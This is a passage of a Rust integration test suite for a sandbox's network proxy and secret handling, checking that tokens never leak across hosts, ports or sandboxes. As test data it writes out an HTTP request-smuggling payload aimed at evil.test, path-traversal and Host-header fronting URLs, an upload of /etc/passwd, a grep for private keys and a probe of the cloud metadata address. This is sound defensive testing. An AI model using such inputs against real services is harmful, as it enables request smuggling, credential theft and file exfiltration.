    let twice = "POST /headers HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
    let said = tls_says(w, "net-req", twice)?;
    let arrived = outside.requests();
    ensure!(
        arrived.len() <= 1 && arrived.iter().all(|request| request.header("content-length").is_empty()),
        "{arrived:?}"
    );
    ensure!(said.matches("HTTP/1.1 ").count() == 1, "{said}");
    // A second request of the same connection is judged by itself.
    let two = "GET /headers HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\nGET /headers HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n";
    let said = tls_says(w, "net-req", two)?;
    ensure!(said.contains("HTTP/1.1 200") && said.contains("HTTP/1.1 421"), "{said}");
    let plain = "GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n";
    let said = says(w, "net-req", plain)?;
    ensure!(
        said.contains("HTTP/1.1 200")
            && said.contains("HTTP/1.1 403")
            && said.contains("x-dormouse-denied: not-allowed"),
        "{said}"
    );
    // A redirect is a new request (88), and brings no cookie.
    outside.requests();
    let said = get("--insecure --location --include https://other.test/redirect/evil.test/")?;
    ensure!(said.contains("exit") || said.contains("Could not resolve"), "{said}");
    ensure!(outside.requests().len() == 1);
    // Without TLS no secret goes out (92), and over other ports neither (93).
    get("http://api.test/headers")?;
    let arrived = outside.requests();
    ensure!(
        arrived.len() == 1 && arrived[0].header("authorization").is_empty() && !arrived[0].secure,
        "{arrived:?}"
    );
    // Large bodies both ways, WebSocket, gRPC, trailers.
    ensure!(get("https://api.test/bytes/50000000 | wc -c")? == "50000000");
    ensure!(
        w.ok("net-req", "head -c 50000000 /dev/zero | curl -sS -T - https://api.test/count")? == "50000000"
    );
    ensure!(
        get("--http2 --data-binary @/etc/passwd https://api.test/count")?
            == w.ok("net-req", "wc -c < /etc/passwd")?
    );
    ensure!(websocket(w, "net-req")? == "echoed");
    // Shown without values, and the same after a stop.
    for _ in 0..2 {
        let shown = w.good(Method::GET, &format!("{SANDBOXES}/net-req"), None)?;
        let policy = &shown["sandbox"]["networkPolicy"];
        ensure!(
            policy["mode"] == "custom"
                && policy["injectionRules"][0]["headerNames"] == json!(["authorization", "x-added"]),
            "{policy}"
        );
        ensure!(!shown.to_string().contains("s3cret"), "{shown}");
        w.stop("net-req")?;
    }
    ensure!(get("https://api.test/headers")?.contains("x-added"));
    w.delete("net-req")
}

/// What the other side says to raw bytes, over TLS to api.test.
fn tls_says(w: &World, name: &str, raw: &str) -> anyhow::Result<String> {
    python(w, name, &format!("{TALK}\nprint(talk(tls('api.test'), b\"\"\"{raw}\"\"\"))"))
}

/// The same without, to other.test.
fn says(w: &World, name: &str, raw: &str) -> anyhow::Result<String> {
    python(
        w,
        name,
        &format!("{TALK}\nprint(talk(socket.create_connection(('other.test', 80), 5), b\"\"\"{raw}\"\"\"))"),
    )
}

const TALK: &str = "import socket, ssl
def tls(host):
    return ssl.create_default_context().wrap_socket(socket.create_connection((host, 443), 5), server_hostname=host)
def talk(s, raw):
    s.settimeout(3)
    data = b''
    try:
        s.sendall(raw)
        while chunk := s.recv(65536): data += chunk
    except OSError: pass
    return data.decode('latin1')";

/// A WebSocket by hand (RFC 6455): one frame there and back.
fn websocket(w: &World, name: &str) -> anyhow::Result<String> {
    let script = format!(
        "{TALK}
s = tls('api.test')
s.sendall(b'GET /ws HTTP/1.1\\r\\nHost: api.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n')
head = b''
while not head.endswith(b'\\r\\n\\r\\n'): head += s.recv(1)
assert b'101' in head and b's3pPLMBiTxaQ9kYGzzhZRbK+xOo=' in head, head
s.sendall(bytes([0x81, 0x86, 0, 0, 0, 0]) + b'echoed')
frame = s.recv(100)
print(frame[2:].decode())"
    );
    python(w, name, &script)
}

/// Attacks 91 to 100: credentials that never enter.
pub(crate) fn credentials(w: &World) -> anyhow::Result<()> {
    let outside = outside(w)?;
    let org = w.id(&["org", "create", "guild"])?;
    w.cli(&["org", "add-member", &org, &w.account])?;
    w.cli(&["org", "claim", &org, "private/gadgets"])?;
    let session = w.new_session()?;
    let body = json!({"repoUrl": "https://github.com/private/gadgets", "sessionId": session});
    // Nobody else's account gets it.
    let stranger = w.call(
        Method::POST,
        "/api/sandbox",
        Some(&w.other_key),
        Some(json!({"repoUrl": "https://github.com/private/gadgets"})),
    )?;
    ensure!(stranger.0 != StatusCode::OK, "{stranger:?}");
    w.good(Method::POST, "/api/sandbox", Some(body.clone()))?;
    let name = format!("session-{session}");
    ensure!(w.ok(&name, "cat file1")? == "1", "the private repository is there");
    // Clone, fetch and push inside.
    w.ok(&name, "git fetch origin && git clone -q https://github.com/private/gadgets.git /tmp/again && cat /tmp/again/file2")?;
    w.ok(&name, "echo more > more && git add more && git commit -qm more && git push -q origin HEAD:refs/heads/pushed")?;
    w.remote("git -C git/private/gadgets.git rev-parse --verify -q pushed >/dev/null")?;
    // Another private repository's path gets nothing, nor a path that could be read so.
    let (code, _, err) =
        w.shell(&name, "GIT_TERMINAL_PROMPT=0 git clone -q https://github.com/private/others /tmp/o")?;
    ensure!(code != 0 && err.contains("could not read Username"), "{err}");
    outside.requests();
    for path in [
        "/private/others/info/refs?service=git-upload-pack",
        "/private/gadgets/../others/info/refs?service=git-upload-pack",
        "/private/gadgets/%2e%2e/others/info/refs?service=git-upload-pack",
        "/private/gadgets.gitx/info/refs",
        "/x/private/gadgets/info/refs",
        "/",
    ] {
        status(w, &name, &format!("--path-as-is 'https://github.com{path}'"))?;
    }
    for host in ["api.github.com", "uploads.github.com", "codeload.github.com"] {
        for path in ["/user", "/repos/private/others", "/graphql", "/private/others/zip/main"] {
            status(w, &name, &format!("https://{host}{path}"))?;
        }
    }
    // Fronted, over HTTP, on another port, coalesced (93).
    status(w, &name, "-H 'Host: evil.test' https://github.com/private/gadgets")?;
    status(w, &name, "http://github.com/private/gadgets/info/refs")?;
    status(w, &name, &format!("-k --connect-to api.test:443:{CDN}:443 https://api.test/private/gadgets"))?;
    let arrived = outside.requests();
    ensure!(arrived.len() > 6, "the control: requests arrive");
    let leaked: Vec<_> =
        arrived.iter().filter(|request| !request.header("authorization").is_empty()).collect();
    ensure!(leaked.is_empty(), "{leaked:?}");
    // Where it belongs it is, as a bearer token.
    status(w, &name, "https://api.github.com/repos/private/gadgets/pulls")?;
    let arrived = outside.requests();
    ensure!(arrived[0].header("authorization") == format!("Bearer {SERVICE_TOKEN}"), "{arrived:?}");
    // Kept through sleep, resume, a probe and a restart of the server.
    w.stop(&name)?;
    w.end_server("-KILL")?;
    w.serve()?;
    w.good(Method::GET, &format!("/api/sandbox/reconnect?sessionId={session}"), None)?;
    w.good(Method::POST, "/api/sandbox", Some(body))?;
    w.ok(&name, "git fetch origin")?;
    // A fork of it may do what it may.
    w.good(Method::POST, &format!("{SANDBOXES}/{name}/fork"), Some(json!({"name": "forked"})))?;
    w.ok("forked", "cd /vercel/sandbox && git fetch origin")?;
    // And the token is nowhere (91).
    everywhere(w, &name)?;
    everywhere(w, "forked")?;
    w.delete("forked")?;
    w.delete(&name)
}

/// Searches for the service's token, in all encodings that matter, where it must not be.
fn everywhere(w: &World, name: &str) -> anyhow::Result<()> {
    use base64::Engine as _;
    use base64::prelude::BASE64_STANDARD;
    let pair = BASE64_STANDARD.encode(format!("x-access-token:{SERVICE_TOKEN}"));
    let plain = BASE64_STANDARD.encode(SERVICE_TOKEN);
    let hex: String = SERVICE_TOKEN.bytes().map(|byte| format!("{byte:02x}")).collect();
    let needles = [SERVICE_TOKEN, &pair[..40], &plain[..plain.len() - 4], &hex];
    // Written backwards, so that the search does not find itself.
    let backwards: Vec<String> = needles.iter().map(|needle| needle.chars().rev().collect()).collect();
    let search = std::fs::read_to_string(inside("search.py"))?;
    let backwards = serde_json::to_string(&backwards)?;
    let look = |root: &str| w.exec(name, &["--sudo"], &["python3", "-c", &search, &backwards, root]);
    // The control finds what is there.
    let (code, out, err) = look("plant")?;
    ensure!(code == 0 && out.contains("/tmp/planted"), "the control finds nothing: {out}{err}");
    let (code, out, err) = look("/")?;
    ensure!(code == 0 && out.trim() == "[]", "the token is in the sandbox: {out}{err}");
    // The host: database, log, volumes and snapshots of the pool, but for the file that
    // it was given in.
    let mut grep = std::process::Command::new("grep");
    grep.args(["-rlaF"]).args(needles.iter().flat_map(|needle| ["-e", needle]));
    let found = grep.args([w.dir.join("data"), w.dir.join("server.log")]).output()?;
    ensure!(found.status.code() == Some(1), "on the host: {}", String::from_utf8_lossy(&found.stdout));
    for path in [format!("{SANDBOXES}/{name}"), SANDBOXES.to_owned(), "/api/sandbox/status".to_owned()] {
        let (_, reply) = w.call(Method::GET, &path, Some(&w.key), None)?;
        ensure!(needles.iter().all(|needle| !reply.to_string().contains(needle)), "{path}: {reply}");
    }
    Ok(())
}

/// Attacks 94, 96, 99 and 100: secrets of an organization, and what stands for them.
pub(crate) fn secrets(w: &World) -> anyhow::Result<()> {
    const VALUE: &str = "sk-live-0123456789abcdef";
    let outside = outside(w)?;
    let org = w.id(&["org", "create", "keepers"])?;
    w.cli(&["org", "add-member", &org, &w.account])?;
    w.cli(&["org", "claim", &org, "acme/widgets"])?;
    let path = format!("/api/organizations/{org}/secrets");
    let body = json!({"value": VALUE, "hosts": ["api.test"]});
    // Members only, and what cannot be is refused by name.
    let stranger = w.call(Method::PUT, &format!("{path}/API_KEY"), Some(&w.other_key), Some(body.clone()))?;
    ensure!(stranger.0 == StatusCode::NOT_FOUND, "{stranger:?}");
    let bad = w.call(Method::PUT, &format!("{path}/api-key"), Some(&w.key), Some(body.clone()))?;
    ensure!(bad.0 == StatusCode::BAD_REQUEST && bad.1.to_string().contains("name"), "{bad:?}");
    w.good(Method::PUT, &format!("{path}/API_KEY"), Some(body))?;
    let listed = w.good(Method::GET, &path, None)?;
    ensure!(listed["secrets"][0]["name"] == "API_KEY" && !listed.to_string().contains(VALUE), "{listed}");

    let (_, name) = w.sandbox()?;
    let placeholder = w.ok(&name, "echo $DORMOUSE_SECRET_API_KEY")?;
    ensure!(placeholder.starts_with("dm_placeholder_"), "{placeholder:?}");
    // What its clone asked.
    outside.requests();
    let bearer = "-H \"authorization: Bearer $DORMOUSE_SECRET_API_KEY\"";
    // Where it belongs it is swapped, in basic authentication too; the answer that
    // repeats it is scrubbed.
    let said = curl(w, &name, &format!("--include {bearer} https://api.test/headers"))?;
    ensure!(!said.contains(VALUE) && said.contains("********"), "{said}");
    curl(w, &name, "-u \"me:$DORMOUSE_SECRET_API_KEY\" https://api.test/headers")?;
    let arrived = outside.requests();
    ensure!(arrived[0].header("authorization") == format!("Bearer {VALUE}"), "{arrived:?}");
    use base64::Engine as _;
    let basic = base64::prelude::BASE64_STANDARD.encode(format!("me:{VALUE}"));
    ensure!(arrived[1].header("authorization") == format!("Basic {basic}"), "{arrived:?}");
    // Nowhere else: another host, another header, a URL, a body, another port, no TLS.
    for args in [
        format!("-k {bearer} https://other.test/headers"),
        "-H \"x-key: $DORMOUSE_SECRET_API_KEY\" https://api.test/headers".to_owned(),
        "\"https://api.test/headers?key=$DORMOUSE_SECRET_API_KEY\"".to_owned(),
        "-d \"key=$DORMOUSE_SECRET_API_KEY\" https://api.test/headers".to_owned(),
        format!("{bearer} http://api.test/headers"),
        format!("{bearer} -k --http2 -H 'Host: other.test' https://api.test/headers"),
    ] {
        curl(w, &name, &args)?;
    }
    let arrived = outside.requests();
    ensure!(arrived.len() == 5, "{arrived:?}");
    ensure!(!format!("{arrived:?}").contains(VALUE), "{arrived:?}");
    // Another sandbox does not get it by what stands for it (100), nor believes in the
    // first one's authority (99).
    let run = make(w, "net-thief", json!({"mode": "allow-all"}))?;
    curl(w, "net-thief", &format!("-k -H 'authorization: Bearer {placeholder}' https://api.test/headers"))?;
    ensure!(!format!("{:?}", outside.requests()).contains(VALUE));
    ensure!(w.ok(&name, "cat /etc/dormouse/ca.crt")? != w.ok("net-thief", "cat /etc/dormouse/ca.crt")?);
    let keys =
        w.root_shell(&name, "grep -rls 'PRIVATE KEY' /etc/dormouse /usr/local/share/ca-certificates /run")?;
    ensure!(keys.1.trim().is_empty(), "a key is inside: {}", keys.1);
    // A new value is used at the next wake; a deleted one never again.
    w.good(
        Method::PUT,
        &format!("{path}/API_KEY"),
        Some(json!({"value": "sk-live-another-one", "hosts": ["api.test"]})),
    )?;
    let session = name.trim_start_matches("session-").to_owned();
    w.stop(&name)?;
    w.post(&session)?;
    outside.requests();
    ensure!(w.ok(&name, "echo $DORMOUSE_SECRET_API_KEY")? == placeholder, "what stands for it changed");
    curl(w, &name, &format!("{bearer} https://api.test/headers"))?;
    ensure!(outside.requests()[0].header("authorization") == "Bearer sk-live-another-one");
    w.good(Method::DELETE, &format!("{path}/API_KEY"), None)?;
    w.stop(&name)?;
    w.post(&session)?;
    outside.requests();
    curl(w, &name, &format!("-k {bearer} https://api.test/headers"))?;
    ensure!(outside.requests()[0].header("authorization") == format!("Bearer {placeholder}"));
    // It is sealed in the database.
    let found = std::process::Command::new("grep")
        .args(["-claF", "sk-live-"])
        .arg(w.dir.join("data/dormouse.db"))
        .output()?;
    ensure!(found.status.code() == Some(1), "the database holds it");
    w.delete("net-thief")?;
    w.delete(&name)
}

/// Real programs: package managers through an allow list, and refused without; gRPC;
/// a GiB each way.
pub(crate) fn programs(w: &World) -> anyhow::Result<()> {
    let outside = outside(w)?;
    let run = make(w, "net-prog", json!({"mode": "allow-all"}))?;
    // Which hosts they ask, in their own words.
    let asks = "npm config get registry
        python3 -c 'from pip._internal.models.index import PyPI; print(PyPI.url); print(\"https://\" + PyPI.file_storage_domain)'
        grep -rhoE 'https?://[^ /]+' /etc/apt/sources.list /etc/apt/sources.list.d 2>/dev/null | sort -u";
    let hosts: Vec<String> = w
        .ok("net-prog", asks)?
        .lines()
        .filter_map(|url| Some(url.split_once("://")?.1.split(['/', ':']).next()?.to_owned()))
        .collect();
    ensure!(hosts.len() >= 4, "{hosts:?}");
    let npm = "cd /tmp && rm -rf n && mkdir n && cd n && npm install --no-audit --no-fund --fetch-retries=0 is-odd 2>&1 && node -e 'require(\"is-odd\")'";
    let pip =
        "rm -rf /tmp/g && python3 -m pip install --quiet --no-input --retries 0 --target /tmp/g grpcio 2>&1";
    let apt = "apt-get update -qq -o Acquire::Retries=0 -o APT::Update::Error-Mode=any 2>&1 && cd /tmp && apt-get download -qq hello 2>&1 && ls hello_*.deb";
    // A header of the policy, so that TLS ends at the proxy, which verifies the registry
    // with the authorities of the host.
    let rule = json!([{"transform": [{"headers": {"x-through": "the proxy"}}]}]);
    let mut allow = serde_json::Map::new();
    for host in &hosts {
        allow.insert(host.clone(), rule.clone());
    }
    for host in ["api.test", "other.test"] {
        allow.insert(host.to_owned(), if host == "api.test" { rule.clone() } else { json!([]) });
    }
    set_policy(w, &run, json!({ "allow": allow }))?;
    for (name, sudo, script) in [("npm", false, npm), ("pip", false, pip), ("apt", true, apt)] {
        let (code, out, err) =
            if sudo { w.root_shell("net-prog", script)? } else { w.shell("net-prog", script)? };
        ensure!(code == 0, "{name} through the proxy: {code} {out}{err}");
    }
    // gRPC over HTTP/2, with its status in trailers.
    let grpc = "import sys; sys.path.insert(0, '/tmp/g')
import grpc
channel = grpc.secure_channel('api.test:443', grpc.ssl_channel_credentials())
say = channel.unary_unary('/test.Echo/Say', request_serializer=lambda b: b, response_deserializer=lambda b: b)
print(say(b'hello', timeout=20).decode())";
    ensure!(python(w, "net-prog", grpc)? == "hello");
    // A GiB each way, spliced and request by request.
    const GIB: &str = "1073741824";
    for host in ["other.test", "api.test"] {
        for (what, script) in [
            ("down", format!("curl -sSk https://{host}/bytes/{GIB} | wc -c")),
            ("up", format!("head -c {GIB} /dev/zero | curl -sSkT - https://{host}/count")),
        ] {
            let began = Instant::now();
            ensure!(w.ok("net-prog", &script)? == GIB, "{host} {what}");
            eprintln!("      1 GiB {what}, {host}: {:.1} s", began.elapsed().as_secs_f32());
        }
    }
    let counted = access(w, "net-prog")?;
    let counts = |name: &str| counted[name].as_u64().unwrap_or(0);
    ensure!(counts("sent") > 2 << 30 && counts("received") > 2 << 30, "{}", counts("sent"));
    // In the protocol's words, also once the session has ended.
    let transfer = || {
        Ok::<_, anyhow::Error>(
            w.good(Method::GET, &format!("{SANDBOXES}/sessions/{run}"), None)?["session"]["networkTransfer"]
                .clone(),
        )
    };
    let during = transfer()?;
    ensure!(
        during["egress"].as_u64() >= Some(2 << 30) && during["ingress"].as_u64() >= Some(2 << 30),
        "{during}"
    );
    // Without the list nothing is installed, and that is said at once.
    set_policy(w, &run, json!({"allow": ["api.test"]}))?;
    for (name, sudo, script) in [("npm", false, npm), ("pip", false, pip), ("apt", true, apt)] {
        let began = Instant::now();
        let cached = script.replace("npm install", "npm install --prefer-online --cache /tmp/none");
        let cached = cached.replace("pip install", "pip install --no-cache-dir");
        let (code, out, _) =
            if sudo { w.root_shell("net-prog", &cached)? } else { w.shell("net-prog", &cached)? };
        ensure!(code != 0, "{name} without the list: {out}");
        ensure!(began.elapsed() < Duration::from_secs(60), "{name} took {:?} to fail", began.elapsed());
    }
    w.stop("net-prog")?;
    let after = transfer()?;
    ensure!(after["egress"].as_u64() >= during["egress"].as_u64(), "{during} became {after}");
    drop(outside);
    w.delete("net-prog")
}

/// With `network.proxy` everything goes through it, by name where there is one, and the
/// same rules hold before it is asked.
pub(crate) fn proxied(w: &World) -> anyhow::Result<()> {
    let outside = outside(w)?;
    let asked = Arc::new(Mutex::new(Vec::<String>::new()));
    let listener = w.block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))?;
    let url = format!("http://me:pass@{}", listener.local_addr()?);
    let record = asked.clone();
    let proxy = w.spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let record = record.clone();
            tokio::spawn(async move {
                // It is a test's: whatever fails, its client notices.
                let _ = connect_for(stream, &record).await;
            });
        }
    });
    let asked = || std::mem::take(&mut *asked.lock().unwrap());
    w.end_server("-TERM")?;
    w.serve_with(&[("DORMOUSE_NETWORK__PROXY", &url)])?;
    let run = make(w, "net-proxy", json!({"mode": "allow-all"}))?;
    // A name that nobody resolves here.
    outside.questions();
    ensure!(status(w, "net-proxy", "-k https://only-there.test/")? == "200");
    ensure!(status(w, "net-proxy", "http://only-there.test/")? == "200");
    ensure!(status(w, "net-proxy", &format!("http://{API}/"))? == "200");
    let seen = asked();
    ensure!(seen == ["only-there.test:443", "only-there.test:80", &format!("{API}:80")], "{seen:?}");
    ensure!(outside.questions().is_empty(), "names were resolved here");
    // What is refused is refused before.
    let private = [("tcp", "10.0.0.1".to_owned(), 80), ("tcp", "169.254.169.254".to_owned(), 80)];
    refused(w, "net-proxy", &private, &["EHOSTUNREACH"])?;
    // By name, and with a header.
    let rule = json!([{"transform": [{"headers": {"authorization": "Bearer s3cret-s3cret"}}]}]);
    set_policy(w, &run, json!({"allow": {"api.test": rule, "only-there.test": []}}))?;
    outside.requests();
    ensure!(status(w, "net-proxy", "https://api.test/headers")? == "200");
    ensure!(outside.requests()[0].header("authorization") == "Bearer s3cret-s3cret");
    ensure!(status(w, "net-proxy", "-k https://only-there.test/")? == "200");
    asked();
    ensure!(status(w, "net-proxy", "-k https://other.test/")?.contains("exit"));
    ensure!(asked().is_empty(), "the proxy was asked for what is not allowed");
    // A proxy that is gone is an error at once.
    proxy.abort();
    let gone = status(w, "net-proxy", "-k https://only-there.test/")?;
    ensure!(gone.contains("exit 7"), "{gone}");
    w.delete("net-proxy")?;
    w.end_server("-TERM")?;
    w.serve()
}

/// One CONNECT of an HTTP proxy; every name is at one address.
async fn connect_for(mut stream: tokio::net::TcpStream, record: &Mutex<Vec<String>>) -> std::io::Result<()> {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        head.push(stream.read_u8().await?);
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let target = head.split(' ').nth(1).unwrap_or_default().to_owned();
    // me:pass
    if !head.starts_with("CONNECT ") || !head.contains("Basic bWU6cGFzcw==") {
        return stream.write_all(b"HTTP/1.1 407 no\r\n\r\n").await;
    }
    let port: u16 = target.rsplit(':').next().and_then(|port| port.parse().ok()).unwrap_or(0);
    record.lock().unwrap().push(target);
    let mut there = tokio::net::TcpStream::connect((API, port)).await?;
    stream.write_all(b"HTTP/1.1 200 ok\r\n\r\n").await?;
    tokio::io::copy_bidirectional(&mut stream, &mut there).await.map(drop)
}
